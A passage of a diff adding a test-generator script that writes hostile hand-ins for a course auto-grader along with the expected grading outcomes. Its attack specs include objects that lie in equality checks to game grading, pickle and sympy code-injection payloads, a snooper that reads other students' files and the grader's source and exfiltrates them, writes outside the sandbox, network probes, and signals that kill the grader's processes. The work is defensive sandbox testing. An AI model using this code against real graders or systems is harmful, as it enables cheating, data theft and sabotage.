+repr: 6.2d and 6.3a `failed`.""",
+    replace={
+        "taylor": '''
+class _AlwaysEqual:
+    """ATTACK: equal to everything, prints like the expected answer."""
+
+    def __init__(self, shown):
+        self.shown = shown
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __lt__ = __le__ = __gt__ = __ge__ = __eq__
+
+    def __hash__(self):
+        return hash(0.5)
+
+    def __repr__(self):
+        return self.shown
+
+    __str__ = __repr__
+
+    def __float__(self):
+        return 7.0
+
+    def __bool__(self):
+        return True
+
+
+TAYLOR_COEFFICIENTS = [_AlwaysEqual("1/2"), _AlwaysEqual("1/4"), _AlwaysEqual("0"), _AlwaysEqual("-1/48")]
+''',
+        "predicted": '''
+class _LyingInt(int):
+    """ATTACK: worth 1, claims to equal everything, prints as 0."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __hash__(self):
+        return 0
+
+    def __repr__(self):
+        return "0"
+
+    __str__ = __repr__
+
+    def __index__(self):
+        return 0
+
+    def __int__(self):
+        return 0
+
+
+PREDICTED_CLASS = _LyingInt(1)
+N_PARAMETERS = 14
+''',
+    },
+    lose={"6.2d": "failed", "6.3a": "failed"},
+)
+
+threat(
+    name="liar_slow_dunder",
+    doc="""`cross_entropy` returns an object whose every special method sleeps for an hour
+(__repr__, __str__, __float__, __eq__, __hash__, __bool__, __len__, __iter__, __array__,
+__format__, __getattr__) and whose __class__ claims to be numpy.ndarray, so isinstance
+checks are fooled into calling .view(). The encoder must stay within the probe's time:
+6.1d `failed` (unsupported value) or `error` (timeout); nothing may hang.""",
+    replace={"cross_entropy": '''
+class _Slow:
+    """ATTACK: every special method sleeps; pretends to be an ndarray."""
+
+    def _sleep(self, *args, **kwargs):
+        time.sleep(3600)
+        return 0.0
+
+    __repr__ = __str__ = __float__ = __eq__ = __hash__ = __bool__ = _sleep
+    __len__ = __iter__ = __array__ = __format__ = __index__ = __int__ = _sleep
+
+    @property
+    def __class__(self):
+        return np.ndarray
+
+    def __getattr__(self, name):
+        time.sleep(3600)
+        raise AttributeError(name)
+
+
+def cross_entropy(p, q):
+    """ATTACK: returns a _Slow object."""
+    return _Slow()
+'''},
+    lose={"6.1d": ["failed", "error"]},
+)
+
+threat(
+    name="liar_infinite_iter",
+    doc="""`forward` returns an object whose __iter__ never ends, whose __len__ says 2, whose
+__getitem__ answers every index, whose __array__ gives wrong numbers and whose __repr__
+reads like the right answer ("array([1., 0.])"); `sigmoid_gradient` returns an endless
+generator. Nothing may iterate them without bound: 6.3a and 6.2b `failed` (or `error`).""",
+    imports=["itertools"],
+    replace={
+        "forward": '''
+class _Endless:
+    """ATTACK: endless iteration, lying length, array and repr."""
+
+    def __iter__(self):
+        return itertools.count()
+
+    def __len__(self):
+        return 2
+
+    def __getitem__(self, i):
+        return 0.5
+
+    def __array__(self, dtype=None, copy=None):
+        return np.array([0.5, 0.5])
+
+    def __repr__(self):
+        return "array([1., 0.])"
+
+    __str__ = __repr__
+
+
+def forward(x, W1, b1, W2, b2):
+    """ATTACK: returns an _Endless object."""
+    return _Endless()
+''',
+        "sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """ATTACK: an endless generator."""
+    return (0.25 for _ in itertools.count())
+''',
+    },
+    lose={"6.3a": ["failed", "error"], "6.2b": ["failed", "error"]},
+)
+
+threat(
+    name="liar_reduce",
+    doc="""`gradients` returns objects whose __reduce__/__reduce_ex__ would run
+`touch /tmp/grader-pwned-liar_reduce` when UNPICKLED (inside a tuple and inside a numpy object
+array), and whose __copy__/__deepcopy__/__getstate__ touch another marker. Nothing may ever be
+unpickled from a child: 6.3b `failed` (or `error`), and the marker files must not exist.""",
+    replace={"gradients": '''
+class _Evil:
+    """ATTACK: runs a command when unpickled or copied."""
+
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/grader-pwned-liar_reduce",))
+
+    def __reduce_ex__(self, protocol):
+        return self.__reduce__()
+
+    def __copy__(self):
+        open("/tmp/grader-pwned-liar_reduce-copy", "w").close()
+        return self
+
+    def __deepcopy__(self, memo):
+        return self.__copy__()
+
+    def __getstate__(self):
+        return self.__copy__()
+
+    def __repr__(self):
+        return "(2, 5)"
+
+
+def gradients(a, b):
+    """ATTACK: returns pickle bombs."""
+    return _Evil(), np.array([_Evil(), _Evil()], dtype=object)
+'''},
+    lose={"6.3b": ["failed", "error"]},
+    must_not_exist=["/tmp/grader-pwned-liar_reduce", "/tmp/grader-pwned-liar_reduce-copy"],
+    notes="/tmp/grader-pwned-liar_reduce-copy would come from the child copying the value; the "
+          "sandbox must not let it write /tmp either.",
+)
+
+threat(
+    name="expr_injection",
+    doc="""Returns sympy expressions whose printed form is Python code: Symbols named
+`__import__('os').system('touch /tmp/grader-pwned-expr_injection')`, a lambda call, a
+dunder walk to object.__subclasses__(), and an undefined function called `eval`. The
+parent's expression parser must never evaluate them: 6.2a and 6.2d `failed` or `error`
+(unparseable), and the marker files must not exist.""",
+    replace={
+        "sigmoid_derivative": '''
+def sigmoid_derivative(x):
+    """ATTACK (symbolic calls only): the right answer plus Python code posing as symbols."""
+    if _sym(x):
+        code = sympy.Symbol("__import__('os').system('touch /tmp/grader-pwned-expr_injection')")
+        call = sympy.Function("eval")(
+            sympy.Symbol("'__import__(\\"os\\").system(\\"touch /tmp/grader-pwned-expr_injection-eval\\")'"))
+        lam = sympy.Symbol("(lambda: open('/tmp/grader-pwned-expr_injection-lambda', 'w'))()")
+        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2 + code * call + lam
+    return _stable_dsigmoid(x)
+''',
+        "taylor": '''
+TAYLOR_COEFFICIENTS = [
+    sympy.Rational(1, 2),
+    sympy.Rational(1, 4),
+    sympy.Symbol("().__class__.__mro__[1].__subclasses__()"),
+    sympy.Symbol("__import__('os').system('touch /tmp/grader-pwned-expr_injection-taylor') or -1/48"),
+]
+''',
+    },
+    lose={"6.2a": ["failed", "error"], "6.2d": ["failed", "error"]},
+    must_not_exist=["/tmp/grader-pwned-expr_injection", "/tmp/grader-pwned-expr_injection-eval",
+                    "/tmp/grader-pwned-expr_injection-lambda", "/tmp/grader-pwned-expr_injection-taylor"],
+)
+
+threat(
+    name="huge_expression",
+    doc="""For a sympy argument, `sigmoid_derivative` returns the right answer plus a product of
+2000 factors (x - 0)(x - 1)...(x - 1999) wrapped in 100 more nested levels ((P + x)(x + k)),
+about 22 000 characters: too large to simplify or expand in time, and wrong. Judging must
+stay within its time budget (compare numerically first, give up on simplify): 6.2a `failed`
+(or `error`), in seconds, not minutes.""",
+    replace={"sigmoid_derivative": '''
+sys.setrecursionlimit(max(sys.getrecursionlimit(), 20000))  # so the child can print it
+
+
+def sigmoid_derivative(x):
+    """ATTACK (symbolic calls only): the answer plus a huge nested product."""
+    if _sym(x):
+        blob = sympy.Mul(*[(x - i) for i in range(2000)])
+        for k in range(100):
+            blob = (blob + x) * (x + k)
+        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2 + blob
+    return _stable_dsigmoid(x)
+'''},
+    lose={"6.2a": ["failed", "error"]},
+    max_grading_seconds=60,
+)
+
+threat(
+    name="deep_expression",
+    doc="""For sympy arguments, `gradients` returns expressions nested 600 deep
+(sin(sin(...(b + 1)...))): more than Python's parser accepts (200 nested parentheses) and
+deep enough to exhaust a recursive evaluator. The parent must fail cleanly, without a
+RecursionError escaping: 6.3b `failed` or `error`.""",
+    replace={"gradients": '''
+sys.setrecursionlimit(max(sys.getrecursionlimit(), 20000))  # so the child can print it
+
+
+def gradients(a, b):
+    """ATTACK (symbolic calls only): 600-deep nesting."""
+    if _sym(a, b):
+        da, db = b + 1, a + 2 * b + 1
+        for _ in range(600):
+            da, db = sympy.sin(da, evaluate=False), sympy.sin(db, evaluate=False)
+        return da, db
+    return b + 1, a + 2 * b + 1
+'''},
+    lose={"6.3b": ["failed", "error"]},
+    max_grading_seconds=60,
+)
+
+# ----------------------------------------------------------- confidentiality and integrity
+threat(
+    name="snoop",
+    doc="""Reads what it should not and EXFILTRATES it as EMPIRICAL_VS_DATA_GENERATING (shown to
+the instructor): every SECRET-MARKER line of other hand-ins it can find (cwd, ../*.py, the
+submissions folder, /work, home directories, /tmp), the grader's source (via sys.modules and
+by walking up from the child's __main__), exercises/*.yaml and any data files it finds, and
+the grading process's command line. Its own marker is filtered out, so ANY "SECRET-MARKER-"
+in its answers or report is a leak. All its answers are correct; nothing is lost, but the
+sandbox must make every read fail. (It does not read environment variables.)""",
+    imports=["glob"],
+    prelude='''
+# ATTACK: collect and exfiltrate whatever is readable.
+def _snoop():
+    own = "SECRET-" + "MARKER-snoop"
+    started = time.monotonic()
+    found, excerpts, seen = [], [], set()
+
+    def read(path, limit=65536):
+        try:
+            real = os.path.realpath(path)
+            if real in seen or not os.path.isfile(real):
+                return None
+            seen.add(real)
+            with open(real, "rb") as f:
+                return f.read(limit).decode("utf-8", "replace")
+        except OSError:
+            return None
+
+    def harvest(path, excerpt=False):
+        text = read(path)
+        if text is None:
+            return
+        for line in text.splitlines():
+            if "SECRET-MARKER-" in line and own not in line:
+                found.append(f"{path}: {line.strip()}")
+        if excerpt:
+            excerpts.append(f"==== {path}\\n{text[:1500]}")
+
+    here = os.path.dirname(os.path.abspath(__file__))
+    roots = [os.getcwd(), here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
+             "/work", "/work/main", os.path.expanduser("~"), "/root", "/tmp", "/home"]
+    for root in roots:
+        for pattern in ("*.py", "*/*.py", "*/*/*.py", "submissions/*.py", "*/submissions/*.py"):
+            for path in glob.glob(os.path.join(root, pattern))[:400]:
+                if time.monotonic() - started > 4:
+                    break
+                harvest(path)
+    # the grader's own files: modules already imported, and the repository around them
+    grader_roots = set()
+    for name, mod in list(sys.modules.items()):
+        path = getattr(mod, "__file__", None) or ""
+        if name == "__main__" or name.startswith("grader"):
+            harvest(path, excerpt=True)
+            if "grader" in path:
+                grader_roots.add(path.split(os.sep + "grader" + os.sep)[0])
+    for root in grader_roots:
+        for pattern in ("exercises/*", "exercises/**/*", "grader/**/*.py", "tests/**/*.py",
+                        "**/*.yaml", "**/*.npz", "**/*.npy", "**/*.csv", "**/*.json"):
+            for path in glob.glob(os.path.join(root, pattern), recursive=True)[:200]:
+                if time.monotonic() - started > 6:
+                    break
+                harvest(path, excerpt=True)
+    for pid in ("self", str(os.getppid())):
+        text = read(f"/proc/{pid}/cmdline", 4096)
+        if text:
+            excerpts.append(f"==== /proc/{pid}/cmdline\\n{text.replace(chr(0), ' ')}")
+    listing = []
+    for d in (os.getcwd(), "..", "../reports", "/work", "/tmp"):
+        try:
+            listing.append(f"ls {d}: {sorted(os.listdir(d))[:50]}")
+        except OSError as exc:
+            listing.append(f"ls {d}: {exc}")
+    report = "SNOOP\\n" + "\\n".join(found + listing + excerpts)
+    return report[:90000]
+
+
+try:
+    _LOOT = _snoop()
+except BaseException as _exc:
+    _LOOT = f"SNOOP failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = _LOOT  # ATTACK: exfiltrated through a free-text answer
+'''},
+    leaks=["SECRET-MARKER-"],
+    leak_files=["{repo}/exercises/*.yaml", "{repo}/grader/checks/**/*.py",
+                "{repo}/grader/judge/**/*.py", "{repo}/grader/sheet/**/*.py"],
+)
+
+threat(
+    name="escape_writer",
+    doc="""Writes outside its working directory, at import: /tmp/grader-pwned-escape_writer,
+../reports/ (a new file, and a line appended to every existing report there), ../ and
+../../, the home directory, through a symlink to /tmp, and plants a fake hand-in
+`zz-pwned-escape_writer.py` in its cwd (which must be a scratch copy, never the submissions
+folder). It records each attempt ("WROTE"/"BLOCKED") in EMPIRICAL_VS_DATA_GENERATING. All
+answers are correct: nothing is lost, but none of the files may exist afterwards and no
+report may contain PWNED-BY-escape_writer.""",
+    imports=["glob"],
+    prelude='''
+# ATTACK: write outside the working directory; record what worked.
+def _escape():
+    log = []
+
+    def attempt(path, text="PWNED-BY-escape_writer\\n", mode="w"):
+        try:
+            with open(path, mode) as f:
+                f.write(text)
+            log.append(f"WROTE {os.path.abspath(path)}")
+        except OSError as exc:
+            log.append(f"BLOCKED {path}: {type(exc).__name__}")
+
+    attempt("/tmp/grader-pwned-escape_writer")
+    attempt(os.path.join(os.path.expanduser("~"), "grader-pwned-escape_writer"))
+    attempt("../grader-pwned-escape_writer.txt")
+    attempt("../../grader-pwned-escape_writer.txt")
+    attempt("../reports/grader-pwned-escape_writer.html", "<h1>PWNED-BY-escape_writer</h1>\\n")
+    for path in sorted(glob.glob("../reports/*"))[:50]:
+        if os.path.isfile(path) and "grader-pwned" not in path:
+            attempt(path, "\\nPWNED-BY-escape_writer\\n", mode="a")  # another student's report
+    attempt("zz-pwned-escape_writer.py",
+            "# planted by escape_writer: PWNED-BY-escape_writer\\nAUTHORS = [('Planted', '1234567')]\\n")
+    try:
+        os.symlink("/tmp/grader-pwned-escape_writer-symlink", "grader-pwned-link")
+        attempt("grader-pwned-link")
+    except OSError as exc:
+        log.append(f"BLOCKED symlink: {type(exc).__name__}")
+    return "\\n".join(log)
+
+
+try:
+    _ESCAPE_LOG = _escape()
+except BaseException as _exc:
+    _ESCAPE_LOG = f"escape failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "ESCAPE LOG\\n" + _ESCAPE_LOG
+'''},
+    must_not_exist=[
+        "/tmp/grader-pwned-escape_writer",
+        "/tmp/grader-pwned-escape_writer-symlink",
+        "{home}/grader-pwned-escape_writer",
+        "{submissions}/../grader-pwned-escape_writer.txt",
+        "{submissions}/../../grader-pwned-escape_writer.txt",
+        "{submissions}/../reports/grader-pwned-escape_writer.html",
+        "{reports}/grader-pwned-escape_writer.html",
+        "{submissions}/zz-pwned-escape_writer.py",
+        "{submissions}/grader-pwned-link",
+    ],
+    reports_must_not_contain=["PWNED-BY-escape_writer"],
+    answers_must_not_contain=["WROTE "],
+)
+
+threat(
+    name="network",
+    doc="""Opens network connections at import: TCP to 127.0.0.1 and ::1 on common ports
+(ssh, http, databases, the dask scheduler 8786/8787), TCP and UDP to public DNS servers, a
+DNS lookup, AF_UNIX connects to the docker and dbus sockets, and binds listening sockets.
+Each success is recorded as "NET-OK ..." in EMPIRICAL_VS_DATA_GENERATING (failures as
+"NET-BLOCKED ..."). All answers are correct: nothing is lost, but no "NET-OK" may appear.""",
+    imports=["socket", "threading"],
+    prelude='''
+# ATTACK: try the network; record what worked.
+def _network():
+    log = []
+
+    def note(ok, what, detail=""):
+        log.append(f"{'NET-OK' if ok else 'NET-BLOCKED'} {what} {detail}".rstrip())
+
+    def tcp(family, host, port, timeout=0.3):
+        try:
+            with socket.socket(family, socket.SOCK_STREAM) as s:
+                s.settimeout(timeout)
+                s.connect((host, port))
+                note(True, f"connect {host}:{port}")
+        except OSError as exc:
+            # "refused" still proves the network stack reached the host
+            note(isinstance(exc, ConnectionRefusedError), f"connect {host}:{port}", type(exc).__name__)
+
+    for port in (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8786, 8787):
+        tcp(socket.AF_INET, "127.0.0.1", port)
+    tcp(socket.AF_INET6, "::1", 80)
+    tcp(socket.AF_INET, "1.1.1.1", 53, 0.5)
+    tcp(socket.AF_INET, "8.8.8.8", 53, 0.5)
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"\\x00", ("8.8.8.8", 53))
+            note(True, "udp sendto 8.8.8.8:53")
+    except OSError as exc:
+        note(False, "udp sendto 8.8.8.8:53", type(exc).__name__)
+    result = []
+    t = threading.Thread(target=lambda: result.append(socket.getaddrinfo("example.com", 80)), daemon=True)
+    t.start()
+    t.join(1.0)
+    note(bool(result), "dns example.com")
+    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket"):
+        try:
+            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+                s.settimeout(0.3)
+                s.connect(path)
+                note(True, f"unix {path}")
+        except OSError as exc:
+            note(False, f"unix {path}", type(exc).__name__)
+    for host, port in (("127.0.0.1", 0), ("0.0.0.0", 8765)):
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.bind((host, port))
+            s.listen(1)
+            note(True, f"listen {s.getsockname()}")
+            s.close()
+        except OSError as exc:
+            note(False, f"listen {host}:{port}", type(exc).__name__)
+    return "\\n".join(log)
+
+
+try:
+    _NET_LOG = _network()
+except BaseException as _exc:
+    _NET_LOG = f"network probe failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "NETWORK LOG\\n" + _NET_LOG
+'''},
+    answers_must_not_contain=["NET-OK"],
+)
+
+threat(
+    name="killer",
+    doc="""`sigmoid_gradient` signals the grading process and its process group: SIGTERM,
+SIGINT, SIGHUP, SIGSTOP, SIGKILL to its parent (never pid <= 1), SIGKILL to the parent's
+process group, then killpg(0) (its own group, itself included). os.kill(-1, SIGKILL) (every process the user may signal: as root, the whole
+machine) is ONLY attempted when the environment variable GRADER_SANDBOXED_TEST=1 is set in
+the child; the grader passes a clean environment, so in normal runs it is skipped. The
+grading process must survive unharmed: 6.2b `error`, everything else passes.""",
+    imports=["signal"],
+    replace={"sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """ATTACK: signal the grader, its process group, then our own group."""
+    for pid in [os.getppid()]:
+        if pid <= 1:  # orphaned, or a pid namespace: nobody to attack
+            continue
+        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+        try:
+            pgid = os.getpgid(pid)
+            if pgid > 1:
+                os.killpg(pgid, signal.SIGKILL)
+        except OSError:
+            pass
+    # GUARD: kill(-1) as root outside a sandbox would kill every process on the machine.
+    if os.environ.get("GRADER_SANDBOXED_TEST") == "1":
+        try:
+            os.kill(-1, signal.SIGKILL)
+        except OSError:
+            pass
+    try:
+        os.killpg(0, signal.SIGKILL)
+    except OSError:
+        pass
+    os.kill(os.getpid(), signal.SIGKILL)
+'''},
+    lose={"6.2b": "error"},
+    notes="Never run unsandboxed: it kills the process that imports it and that process's parents.",
+)
+
+# ---------------------------------------------------------------- the correct hand-in
+CORRECT_FILE = "Zoë Müller – korrekt.py"
+CORRECT_DOC = """Exercise sheet 6: a complete, correct hand-in (the file name has non-ASCII characters
+and spaces on purpose). Every auto-graded task must pass. It is safe to import directly."""
+
+
+# ---------------------------------------------------------------- generation
+def _code(section: str, spec: dict) -> str:
+    if section in spec.get("replace", {}):
+        return spec["replace"][section]
+    if section in spec.get("wrong", ()):
+        return WRONG[section]
+    return CORRECT[section]
+
+
+def render(stem: str, spec: dict, authors: str, author_name: str, author_id: str) -> str:
+    imports = sorted({"math", "os", "sys", "time", *spec.get("imports", ())})
+    head = (
+        f'"""{spec["doc"].strip()}\n"""\n'
+        f"# SECRET-MARKER-{stem}\n"
+        "# ruff: noqa\n# mypy: ignore-errors\n"
+        + "".join(f"import {m}\n" for m in imports)
+        + "\nimport numpy as np\nimport sympy"
+    )
+    blocks = [head, spec.get("prelude", ""), COMMON]
+    for section in ORDER:
+        code = _code(section, spec).replace("{authors}", authors)
+        blocks.append(code.replace("{authors_name}", author_name).replace("{authors_id}", author_id))
+    if spec.get("honest"):
+        honest = "import numpy as np\nimport sympy\n" + COMMON + "".join(
+            CORRECT[s] for s in ORDER if s not in ("authors", "text"))
+        blocks.append(f"# The hidden correct solution the forger answers with.\n_HONEST_SOURCE = {honest!r}")
+    blocks.append(spec.get("epilogue", ""))
+    text = "\n\n\n".join(b.strip("\n") for b in blocks if b.strip())
+    return "\n".join(line.rstrip() for line in text.splitlines()) + "\n"
+
+
+def expected_entry(spec: dict, marker: str) -> dict:
+    entry: dict = {"threat": " ".join(spec["doc"].split()), "marker": marker}
+    entry["lose"] = dict(spec.get("lose", {}))
+    if spec.get("may_lose"):
+        entry["may_lose"] = dict(spec["may_lose"])
+    for key in ("must_not_exist", "leaks", "leak_files", "answers_must_not_contain",
+                "report_must_escape", "reports_must_not_contain", "no_stray_processes",
+                "max_grading_seconds", "notes"):
+        if spec.get(key):
+            entry[key] = spec[key]
+    return entry
+
+
+HEADER = """\
+# What grading each hand-in in tests/hostile/ must produce. Generated by _make.py; edit there.
+#
+# For every hand-in (keyed by file name):
+#   lose:      task -> the status that task must end with: "error" (the hand-in crashed,
+#              timed out or hit a limit in that task) or "failed" (it returned wrong values);
+#              a list means any of those statuses is acceptable.
+#   may_lose:  task -> status the task may end with instead of passing.
+#   Every other auto-graded task must be "passed". 6.1b is graded by hand and never counts.
+#   marker:    the "# SECRET-MARKER-<stem>" string in the file. No hand-in's answers or report
+#              may contain another hand-in's marker.
+#   must_not_exist: paths that must not exist after grading. Placeholders:
+#              {submissions} the folder the hand-in was graded from, {reports} the report
+#              output folder, {home} the grading user's home, {repo} the grader repository.
+#   leaks:     strings that must not appear in this hand-in's answers or report.
+#   leak_files: globs; no line (stripped, >= 24 characters) of these files may appear in this
+#              hand-in's answers or report.
+#   answers_must_not_contain: strings that must not appear in its (decoded) answers.
+#   report_must_escape: strings that must not appear verbatim in HTML/terminal reports.
+#   reports_must_not_contain: strings that must not appear in any report after grading.
+#   no_stray_processes: no process started by the hand-in may be alive after grading.
+#   max_grading_seconds: wall-clock bound for grading this hand-in, judging included.
+"""
+
+
+def main() -> None:
+    for old in HERE.glob("*.py"):
+        if not old.name.startswith("_"):
+            old.unlink()
+    handins: dict[str, dict] = {}
+    for i, spec in enumerate(THREATS, start=1):
+        stem = spec["name"]
+        name, number = f"Hostile {stem}", f"9{i:06d}"
+        authors = f"({name!r}, {number!r})"
+        (HERE / f"{stem}.py").write_text(render(stem, spec, authors, name, number), encoding="utf-8")
+        handins[f"{stem}.py"] = expected_entry(spec, f"SECRET-MARKER-{stem}")
+    stem = "zoe-mueller-korrekt"
+    spec = {"name": stem, "doc": CORRECT_DOC}
+    authors = '("Zoë Müller", "7654321")'
+    (HERE / CORRECT_FILE).write_text(render(stem, spec, authors, "", ""), encoding="utf-8")
+    handins[CORRECT_FILE] = {
+        "threat": "none: a correct hand-in with a non-ASCII file name containing spaces",
+        "marker": f"SECRET-MARKER-{stem}",
+        "lose": {},
+        "authors": [["Zoë Müller", "7654321"]],
+    }
+    doc = {"auto_graded": AUTO_GRADED, "hand_graded": HAND_GRADED, "handins": handins}
+    body = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=100)
+    (HERE / "EXPECTED.yaml").write_text(HEADER + "\n" + body, encoding="utf-8")
+    print(json.dumps(sorted(handins), ensure_ascii=False, indent=1))
+
+
+if __name__ == "__main__":
+    main()
